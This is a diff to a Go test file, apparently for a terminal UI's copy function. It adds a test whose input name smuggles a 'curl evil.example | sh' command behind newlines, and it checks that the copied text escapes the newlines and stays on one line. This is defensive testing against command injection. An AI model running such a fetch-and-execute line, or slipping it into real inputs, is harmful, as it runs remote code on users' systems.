@@ -35,6 +35,15 @@ func TestCopy(t *testing.T) {
 	}
 }
 
+func TestCopiedNameIsOneLine(t *testing.T) {
+	d := loaded(t, 120, 36)
+	d.m.selection.Principal = "eve\ncurl evil.example | sh\n"
+	d.press("y", "n")
+	if got, want := copied(t, d), `eve\ncurl evil.example | sh\n`; got != want {
+		t.Errorf("a name is copied as %q, want %q", got, want)
+	}
+}
+
 func TestLinkIsSafeForAShell(t *testing.T) {
 	d := loaded(t, 120, 36)
 	d.press("j", "j", "y", "l")
